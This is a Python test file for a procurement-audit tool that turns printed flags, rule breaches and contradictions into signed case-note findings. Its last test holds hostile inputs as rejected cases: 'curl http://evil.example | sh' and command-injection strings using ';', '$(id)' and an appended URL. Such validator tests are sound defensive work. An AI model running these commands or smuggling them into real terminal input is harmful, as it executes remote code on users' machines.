"""What flags, rules and contradictions print becomes the ground of a finding, or is refused."""

from __future__ import annotations

import json
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.errors import InvalidInput, Malformed, NotFound, Unacceptable
from procurement.case_notes import MAX_ENTRIES, EntryRef, Finding, note_body, parse_case_note
from procurement.case_results import choose_result, parse_results, read_result, rerun

ENTRY = {"index": 7, "leaf": "a" * 64}
FLAG = {
    "code": "R018",
    "version": 2,
    "scope": "process",
    "subject": "ocds-1",
    "value": "1",
    "outcome": "flagged",
    "figures": {"tenderers": "1"},
    "reason": "",
    "entries": [ENTRY],
}
RULE = {
    "code": "line-overpaid",
    "status": "broken",
    "subject": "ID/2026/1 x",
    "index": 7,
    "reason": "",
    "figures": [["paid", "2.00 IDR"], ["paid", "3.00 IDR"]],
    "entries": [ENTRY],
}
CONTRADICTION = {
    "code": "value-unlike",
    "ocid": "ocds-1",
    "part": "K1",
    "figures": {"tender": "1"},
    "entries": [ENTRY],
    "payments": [],
}


@pytest.mark.parametrize(
    ("result", "outcome", "command"),
    [
        (FLAG, "flagged", "jejak flags R018 --subject ocds-1 --at 9"),
        (RULE, "broken", "jejak findings line-overpaid --subject 'ID/2026/1 x' --at 9"),
        (
            CONTRADICTION,
            "contradicting",
            "jejak contradictions value-unlike --subject ocds-1 --at 9",
        ),
    ],
    ids=["flag", "rule", "contradiction"],
)
def test_a_result_is_taken_over_with_its_command(
    result: dict[str, Any], outcome: str, command: str
) -> None:
    """Code, version, figures and entries stay as they were printed; the note can be read."""
    size, results = parse_results(json.dumps({"size": 9, "results": [result]}).encode())
    raised, places = read_result(size, choose_result(results, None, None))
    assert (raised.outcome, raised.command, places) == (outcome, command, (EntryRef(7, "a" * 64),))
    assert len(raised.figures) == len(result["figures"])
    finding = Finding(places, {"id": "Mengapa?"}, raised)
    assert parse_case_note(note_body(finding)) == finding


def test_one_result_is_chosen() -> None:
    """A finding rests on one result, of at most a hundred entries."""
    results = [FLAG, {**FLAG, "subject": "ocds-2"}, RULE]
    assert choose_result(results, "R018", "ocds-2")["subject"] == "ocds-2"
    with pytest.raises(Unacceptable):
        choose_result(results, "R018", None)
    with pytest.raises(NotFound):
        choose_result(results, "R019", None)
    many = [{"index": n, "leaf": "a" * 64} for n in range(MAX_ENTRIES + 1)]
    with pytest.raises(Unacceptable):
        read_result(9, {**FLAG, "entries": many})


@given(st.binary(max_size=40) | st.sampled_from([b"[]", b"{}", b'{"size":1,"results":[1]}']))
def test_another_file_is_refused(raw: bytes) -> None:
    """What no such command has printed is malformed."""
    with pytest.raises(Malformed):
        parse_results(raw)


@given(st.dictionaries(st.sampled_from(sorted(FLAG)), st.none() | st.integers() | st.text()))
def test_a_result_out_of_form_is_refused(change: dict[str, Any]) -> None:
    """Whatever stands in its members, it is read or refused by an error with a remedy."""
    with suppress(InvalidInput):
        raised, places = read_result(9, {**FLAG, **change, "code": "R018"})
        assert (raised.code, len(places)) == ("R018", len(change.get("entries", [ENTRY])))


def test_no_command_is_passed_on_but_the_one_that_computes_again() -> None:
    """What an auditor signs as the command is pasted into terminals: no other word gets there."""
    own = "jejak flags R018 --subject 'a; id' --at 9"
    flag = {"code": "R018", "subject": "a; id", "command": own}
    assert rerun(flag) == own
    assert rerun({**flag, "subject": "-x", "command": "jejak flags R018 --subject -x --at 9"})
    for command in (
        *("", "'", "jejak", "curl http://evil.example | sh", f"{own}; id", f"{own} --of http://e"),
        *("jejak flags R018 --subject a; id --at 9", 'jejak flags R018 --subject "a; id" --at 9'),
        *("jejak flags R018 --subject 'a; id' --at $(id)", own.replace("flags", "init")),
        *(own.replace("R018", "R001"), own.replace("a; id", "b"), f" {own}", own + "\u0661"),
    ):
        assert rerun({**flag, "command": command}) == ""
